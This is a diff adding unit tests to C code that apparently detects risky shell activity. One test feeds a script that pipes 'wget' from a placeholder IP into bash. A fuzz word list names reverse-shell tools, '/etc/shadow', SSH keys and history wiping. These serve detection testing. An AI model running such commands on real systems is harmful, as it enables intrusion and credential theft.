@@ -187,6 +187,11 @@ static struct summary *evs_summarize(struct evs *e)
 	assert_non_null(e->s.short_description);
 	assert_non_null(e->s.detailed_description);
 	assert_true(e->s.risk_score <= 100);
+	/* one line each */
+	for (size_t i = 0; i < e->s.n_risk_reasons; i++)
+		assert_null(strpbrk(e->s.risk_reasons[i], "\n\r"));
+	for (size_t i = 0; i < e->s.n_commands_of_interest; i++)
+		assert_null(strpbrk(e->s.commands_of_interest[i], "\n\r"));
 	return &e->s;
 }
 
@@ -402,6 +407,22 @@ static void test_download_command_substitution(void **state)
 	assert_reason(s, "downloaded script run with bash -c (after curl -fsSL "
 			 "https://raw.example.com/tool/install.sh)");
 	assert_level(s, SUMMARY_RISK_HIGH);
+	evs_free(&e);
+}
+
+/* A script given to sh -c is read line by line; each reason quotes its line. */
+static void test_download_in_script(void **state)
+{
+	struct evs e;
+	struct summary *s;
+
+	(void)state;
+	evs_start(&e, "alice");
+	evs_exec(&e, 225, SHELL_PID, 1000, "/usr/bin/bash", 0, "bash", "-c",
+		 "set -e\ncd /tmp\nwget -qO- http://203.0.113.7/x |\tbash\necho done", NULL);
+	s = evs_summarize(&e);
+	assert_reason(s, "download run by a shell (sh -c): wget -qO- http://203.0.113.7/x | bash");
+	assert_true(has_coi(s, "wget -qO- http://203.0.113.7/x | bash"));
 	evs_free(&e);
 }
 
@@ -840,6 +861,103 @@ static void test_deterministic(void **state)
 	evs_free(&e);
 }
 
+/* Random events made of the words the detectors look for: no crash, bounded, repeatable. */
+static void test_random_events(void **state)
+{
+	static const char *const words[] = {
+	    "curl",
+	    "wget",
+	    "sh",
+	    "bash",
+	    "-c",
+	    "|",
+	    "base64",
+	    "-d",
+	    "/dev/tcp/1.2.3.4/5",
+	    "nc",
+	    "-e",
+	    "socat",
+	    "exec:/bin/sh",
+	    "python3",
+	    "import socket,pty",
+	    "exec(b64decode(x))",
+	    "/etc/shadow",
+	    "/root/.ssh/id_rsa",
+	    "/home/a/.bash_history",
+	    "history -c",
+	    "sudo",
+	    "chmod",
+	    "u+s",
+	    "4755",
+	    "-O-",
+	    "-o",
+	    "",
+	    "x",
+	    "mkfifo",
+	    "$(curl x)",
+	    "\xc2\x94",
+	    "/tmp/x",
+	    "./x",
+	    "usermod",
+	    "-aG",
+	    "crontab",
+	    "HISTFILE=/dev/null",
+	    "--",
+	    "env",
+	};
+	struct evs e;
+	struct summary a, b;
+	uint32_t seed = 99;
+
+	(void)state;
+	for (int round = 0; round < 20; round++) {
+		evs_start(&e, "alice");
+		while (e.n < EVS_MAX - 2) {
+			const char *w[6];
+			uint32_t r;
+
+			for (int i = 0; i < 6; i++) {
+				seed = seed * 1103515245 + 12345;
+				w[i] = words[(seed >> 16) % (sizeof(words) / sizeof(words[0]))];
+			}
+			r = seed >> 8;
+			switch (r % 5) {
+			case 0:
+				evs_exec(&e, 100 + r % 50, 100 + (r >> 8) % 50, r % 2 ? 0 : 1000,
+					 w[0][0] ? w[0] : "/bin/x", r % 7 ? 0 : -ENOEXEC, w[1],
+					 w[2], w[3], w[4], w[5], NULL);
+				break;
+			case 1:
+				evs_disk(&e, 100 + r % 50, w[0], w[1], r % 3 ? O_RDONLY : O_WRONLY,
+					 r % 11 ? 3 : -EACCES);
+				break;
+			case 2:
+				evs_net(&e, 100 + r % 50, w[0],
+					r % 2 ? "198.51.100.7" : "127.0.0.1", (r >> 4) % 70000, 0);
+				break;
+			case 3:
+				evs_print(&e, w[0]);
+				break;
+			default:
+				evs_wait(&e, (r >> 3) % 3000);
+				break;
+			}
+		}
+		evs_end(&e, 0);
+		assert_int_equal(summary_builtin(e.cev, e.n, &a), 0);
+		assert_int_equal(summary_builtin(e.cev, e.n, &b), 0);
+		assert_true(a.risk_score <= 100);
+		assert_true(a.n_risk_reasons <= 24);
+		assert_true(a.n_commands_of_interest <= 20);
+		assert_string_equal(a.title, b.title);
+		assert_string_equal(a.detailed_description, b.detailed_description);
+		assert_int_equal(a.risk_score, b.risk_score);
+		summary_clear(&a);
+		summary_clear(&b);
+		evs_free(&e);
+	}
+}
+
 static void test_empty_and_misuse(void **state)
 {
 	struct summary s;
@@ -882,6 +1000,7 @@ int main(void)
 	    cmocka_unit_test(test_sequential_commands_are_not_pipelines),
 	    cmocka_unit_test(test_download_to_file_is_not_piped),
 	    cmocka_unit_test(test_download_command_substitution),
+	    cmocka_unit_test(test_download_in_script),
 	    cmocka_unit_test(test_download_typed),
 	    cmocka_unit_test(test_downloaded_file_executed),
 	    cmocka_unit_test(test_decode_piped_to_shell),
@@ -900,6 +1019,7 @@ int main(void)
 	    cmocka_unit_test(test_port_scan),
 	    cmocka_unit_test(test_persistence),
 	    cmocka_unit_test(test_deterministic),
+	    cmocka_unit_test(test_random_events),
 	    cmocka_unit_test(test_empty_and_misuse),
 	};
 
